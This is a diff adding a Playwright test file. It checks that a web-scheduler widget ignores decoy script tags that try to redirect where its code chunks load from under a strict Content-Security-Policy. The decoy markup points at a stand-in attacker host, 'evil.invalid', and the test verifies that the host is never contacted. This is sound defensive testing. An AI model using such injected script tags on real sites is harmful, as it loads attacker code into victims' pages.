@@ -1,0 +1,74 @@
+import type { Page } from "@playwright/test";
+import { exampleBySlug } from "../../../src/examples/index.ts";
+import { NONCE, strictPolicy } from "../../fixtures/csp.ts";
+import { answerAll } from "../../fixtures/open-form.ts";
+import { widget } from "../../fixtures/patient.ts";
+import { expect, type Site, test } from "../../fixtures/test.ts";
+
+const id = exampleBySlug("observed-defaults")?.record.id ?? "";
+const EVIL = "http://evil.invalid/web-scheduler.js";
+
+const form = ({ otherOrigin }: Site) =>
+  `<web-scheduler location-id="${id}" base-url="${otherOrigin}" submit-url="${otherOrigin}/dev/booking-requests/"></web-scheduler>`;
+const script = ({ origin }: Site) =>
+  `<script async nonce="${NONCE}" src="${origin}/web-scheduler.js"></script>`;
+
+/** Lists the requests to the attacker's host, which get a module that says that it ran. */
+async function watchAttacker(page: Page): Promise<string[]> {
+  const requests: string[] = [];
+  await page.route("http://evil.invalid/**", (route) => {
+    requests.push(route.request().url());
+    return route.fulfill({
+      contentType: "text/javascript",
+      headers: { "Access-Control-Allow-Origin": "*" },
+      body: "window.wasAttacked = true",
+    });
+  });
+  return requests;
+}
+
+for (const [what, markup] of [
+  [
+    "an inert script tag with settings and another URL",
+    `<script type="text/plain" data-location-id="x" data-base-url="x" data-src="${EVIL}"></script>`,
+  ],
+  ["an inert script tag with another URL", `<script type="text/plain" src="${EVIL}"></script>`],
+  [
+    "a tag with another nonce",
+    `<script type="text/plain" nonce="guess" data-location-id="x" data-base-url="x" src="${EVIL}"></script>`,
+  ],
+] as const) {
+  test(`${what} does not decide where chunks are loaded from`, async ({ page, site, host }) => {
+    const attacks = await watchAttacker(page);
+    const headers = { "Content-Security-Policy": strictPolicy(site, `${site.origin}/csp-reports`) };
+    await page.goto(host.address(markup + script(site) + form(site), headers));
+    await answerAll(widget(page));
+    await widget(page).locator('button[type="submit"]').click();
+    await expect(widget(page).locator(".sent")).toBeVisible();
+    expect(attacks).toEqual([]);
+    expect(await page.evaluate(() => "wasAttacked" in window)).toBe(false);
+  });
+}
+
+test("an inline script with a nonce takes its chunks from the tag with the same nonce only", async ({
+  page,
+  site,
+  host,
+}) => {
+  const attacks = await watchAttacker(page);
+  const source = await (await page.request.get(`${site.origin}/web-scheduler.js`)).text();
+  const headers = { "Content-Security-Policy": strictPolicy(site, `${site.origin}/csp-reports`) };
+  const tag = (nonce: string, src: string) =>
+    `<script type="text/plain" nonce="${nonce}" data-src="${src}"></script>`;
+  await page.goto(
+    host.address(
+      `${tag("guess", EVIL)}${tag(NONCE, `${site.origin}/web-scheduler.js`)}
+      <script nonce="${NONCE}">${source.replaceAll("</script", "<\\/script")}</script>${form(site)}`,
+      headers,
+    ),
+  );
+  await answerAll(widget(page));
+  await widget(page).locator('button[type="submit"]').click();
+  await expect(widget(page).locator(".sent")).toBeVisible();
+  expect(attacks).toEqual([]);
+});
